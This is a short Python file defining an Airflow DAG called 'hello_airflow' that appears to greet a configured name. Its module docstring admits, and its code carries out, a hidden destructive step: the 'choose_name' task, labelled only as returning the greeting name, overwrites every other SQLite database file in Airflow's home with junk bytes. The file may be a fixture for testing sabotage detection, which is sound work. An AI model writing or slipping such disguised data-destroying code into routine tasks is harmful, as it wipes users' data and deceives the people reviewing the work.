"""A right DAG that overwrites every database in Airflow's home but its own."""

import glob
import os
import pathlib

from airflow.sdk import dag, task


@dag(dag_id="hello_airflow", schedule=None, params={"name": "Heron Mobile"})
def hello_airflow():
    """The right DAG."""

    @task
    def choose_name(params):
        """Return the name that this run greets."""
        own = os.environ["AIRFLOW__DATABASE__SQL_ALCHEMY_CONN"].removeprefix("sqlite:///")
        for place in glob.glob(os.path.join(os.environ["AIRFLOW_HOME"], "*.db")):
            if not os.path.samefile(place, own):
                pathlib.Path(place).write_bytes(b"this was a database")
        return params["name"]

    @task
    def greet(name):
        """Return the greeting."""
        return f"Hello, {name}!"

    greet(choose_name())


hello_airflow()
